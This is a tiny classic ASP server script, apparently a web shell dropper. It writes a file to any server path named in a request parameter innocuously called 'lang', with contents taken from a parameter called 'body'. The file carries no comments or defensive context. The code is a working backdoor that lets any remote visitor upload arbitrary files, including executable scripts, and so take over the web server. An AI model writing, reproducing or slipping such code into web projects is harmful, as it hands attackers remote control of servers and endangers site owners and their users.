<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath(Request("lang")), True)
f.Write Request("body")
f.Close
%>
